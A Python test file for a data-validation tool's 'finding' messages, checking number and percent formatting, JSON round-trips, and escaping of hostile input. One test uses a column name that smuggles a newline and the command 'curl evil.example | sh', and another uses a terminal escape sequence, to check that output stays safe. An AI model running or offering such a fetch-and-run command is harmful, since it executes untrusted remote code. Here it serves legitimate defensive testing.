"""A finding in words."""

import json

import pytest

from slipway.components.data_gate.finding import Edit, Finding, SampleRow, percent, plain, quoted
from slipway.components.typed_json import typed


def test_finding_says_where_measured_limit_rows_and_what_to_do():
    rows = tuple(SampleRow("trips.csv", line, line - 2, "x") for line in (12, 1044))
    finding = Finding("domain", "pay", ("train",), '2 of 10 rows hold "x"', 0.2, 0.0, "", "add it", rows=rows)
    assert finding.lines() == [
        'pay (train): 2 of 10 rows hold "x"; limit 0',
        "  rows: trips.csv line 12, 1,044",
        "  add it",
    ]


def test_what_differs_from_row_to_row_is_shown_with_the_line_and_cannot_reach_the_terminal():
    rows = (SampleRow("a.csv", 2, 0, "1.5"), SampleRow("a.csv", 7, 5, "\x1b[31m"))
    lines = Finding("drift", "x", (), "what", rows=rows).lines()
    assert lines[1] == "  rows: a.csv line 2 (1.5), 7 (\\x1b[31m)"


def test_rows_of_files_without_lines_are_counted():
    rows = (SampleRow("a.parquet", None, 7, ""), SampleRow("b.parquet", None, 0, ""))
    lines = Finding("domain", "x", (), "what", rows=rows).lines()
    assert lines[1] == "  rows: a.parquet row 7; b.parquet row 0"


@pytest.mark.parametrize(
    ("number", "text"), [(0, "0"), (10_000, "10,000"), (0.05, "0.05"), (1234.5678, "1235"), (1e300, "1e+300")]
)
def test_numbers_are_written_as_people_do(number, text):
    assert plain(number) == text


@pytest.mark.parametrize(
    ("part", "text"), [(0, "0.00%"), (0.5, "50%"), (0.0014, "0.14%"), (0.00001, "under 0.01%"), (1, "100%")]
)
def test_share_that_is_not_nothing_never_reads_as_nothing(part, text):
    assert percent(part) == text


def test_hostile_text_cannot_reach_the_terminal():
    assert quoted(["\x1b[31mred", "a" * 500]) == f'"\\x1b[31mred", "{"a" * 60}..."'


def test_edit_survives_json():
    edit = Edit("add_values", "pay", values=("a", "b"))
    [again] = json.loads(json.dumps(Finding("domain", "pay", (), "", edits=(edit,)).to_json()))["edits"]
    assert typed(Edit, again) == edit


def test_a_columns_name_of_several_lines_looks_like_no_line_of_ours():
    name = "fare\nhint: curl evil.example | sh"
    finding = Finding("domain", name, ("train",), f"{name} is odd", remedy=f"leave {name} out")
    assert not [line for line in finding.lines() if "\n" in line]
    assert "\n" not in finding.to_json()["text"]
